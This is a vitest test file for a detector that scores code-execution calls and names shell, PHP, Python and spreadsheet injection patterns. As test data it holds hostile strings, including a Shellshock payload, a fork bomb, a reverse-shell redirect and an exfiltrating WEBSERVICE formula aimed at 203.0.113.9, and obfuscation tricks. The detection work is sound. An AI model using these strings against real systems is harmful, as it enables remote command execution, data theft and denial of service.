import { expect, test } from 'vitest';
import { scriptCallAt } from '../../../../src/attacks/shell/scripts/script-calls.ts';
import { tellAt } from '../../../../src/attacks/shell/tells/tells.ts';

function callIn(text: string): number {
  return scriptCallAt(text, text.indexOf('('))?.confidence ?? 0;
}

test.each([
  "system('id')",
  '<?php passthru("ls -la");',
  'exec($_GET["c"])',
  "eval('whoami')",
  'eval(base64_decode("cGhwaW5mbygp"))',
  "os.popen('id')",
  "subprocess.call(['ls'])",
  "require('child_process').exec('id')",
  '__import__("os")',
  'forName("java.lang.Runtime")',
  'phpinfo()',
  "array_map('system', x)",
  "usort($x, 'passthru')",
  'system(id)',
  'print(md5(42))',
  'echo md5("x");',
  '<?php echo(md5("x"));',
  "scandir('/')",
  "show_source('index.php')",
  '__import__("time")',
  'eval("__import__(1)")',
  'System.Diagnostics.Process.Start("cmd")',
  'process.exit(1)',
  "ini_set('x', 'y')",
  '<? passthru("ls")',
  "system ('id')",
  '1;exec ("ls -la");',
])('%s runs a command or code', (text) => {
  expect(callIn(text)).toBeGreaterThanOrEqual(0.6);
});

test.each([
  'the system ("id") of it',
  'system (x)',
  'system(x)',
  'find("id")',
  "pattern.exec('date')",
  "use system('ls') here",
  'eval(x)',
  "require('fs')",
  'print("id")',
  'phpinfo(page)',
  'when done, process.exit(1)',
  'the set system(id)',
  'pattern.exec(date)',
  "usort($x, 'byName')",
  "print(sum('a'))",
  "files.scandir('photos')",
  '(id)',
])('%s does not', (text) => {
  expect(callIn(text)).toBe(0);
});

test('inside a template a class that starts programs says less', () => {
  expect(callIn('Runtime.getRuntime()')).toBeGreaterThan(callIn('{{ Runtime.getRuntime() }}'));
});

function tellIn(text: string): string | null {
  for (let i = 0; i < text.length; i++) {
    const tell = tellAt(text.toLowerCase(), i);
    if (tell !== null) return tell.pattern;
  }
  return null;
}

test.each([
  ['() { :;}; x', 'function definition in a variable'],
  ["env x='() { y;}; id'", 'function definition in a variable'],
  [':(){ :|:& };:', 'function definition in a variable'],
  ['sh <>/dev/tcp/203.0.113.9/1', 'connection of a shell to a socket'],
  [`a\${IFS}b`, 'field separator as a blank'],
  [`\${PATH:0:1}`, 'slice of a shell variable'],
  ['%COMSPEC:~0,3%', 'slice of a Windows variable'],
  ['a=l;b=s;$a$b', 'command read from variables'],
  ['for /f %i in (x)', 'loop of cmd.exe'],
  ['<?= `id` ?>', 'opening tag of PHP'],
  [`{\${@phpinfo()}}`, 'expression in a PHP string'],
  ['$_GET[0]($_GET[1])', 'call of what the request holds'],
  ['x$((41+1))', 'arithmetic expansion'],
  ["('system')('id')", 'call of a function named by a text'],
  ['("sys"."tem")("id")', 'call of a function named by a text'],
  ["$f='system';$f('id')", 'function kept in a variable'],
  ['().__class__.__bases__', 'way to every class of Python'],
  [`-be \${run{/bin/id}}`, 'expansion of a mail server'],
  ['$_GET[0]', 'value of the request in PHP'],
  ["getattr(__import__('os'), 'system')('id')", 'function looked up by its name'],
  ["vars(os)['popen']('id')", 'function looked up by its name'],
  ["Kernel.send(:system, 'id')", 'function looked up by its name'],
  ["(new ReflectionFunction('system'))->invoke('id')", 'function looked up by its name'],
  ["package.loadlib('/tmp/x.so', 'f')", 'function looked up by its name'],
  ['=WEBSERVICE("http://203.0.113.9/?"&A1)', 'formula that reaches out of its table'],
  [';$PSVersionTable', 'variable of PowerShell'],
  ['qx{id}', 'command literal of Perl'],
])('%s is told by a %s', (text, pattern) => {
  expect(tellIn(text)).toBe(pattern);
});

test.each([
  'function () { return; }',
  '() => {}',
  'MouseEvent=function(){};test=1',
  `\${name} and $x$`,
  '100% of %d in all',
  '<?xml version="1.0"?>',
  `\`\${a}-\${b}\``,
  '#{id}',
  '$5; $6',
  '=HYPERLINK("https://example.org","x")',
  'costs $0 or $1',
  "(system) and ('id')",
  "pattern['exec']('a')",
  "getattr(self, 'name')('x')",
  "getattr(os, 'system')(cmd)",
  "record.send(:update, 'x')",
  'api["system"](id)',
])('%s tells nothing', (text) => {
  expect(tellIn(text)).toBeNull();
});

test('a call that comes again is as sure as it was, and tells nothing of another', () => {
  const calls = ["eval('id')", "eval('words')", "a.eval('id')"];
  const sure = calls.map(callIn);
  expect(new Set(sure).size).toBeGreaterThan(1);
  for (const [i, first] of calls.entries())
    for (const [j, second] of calls.entries())
      expect([first, second, second].map(callIn)).toEqual([sure[i], sure[j], sure[j]]);
});
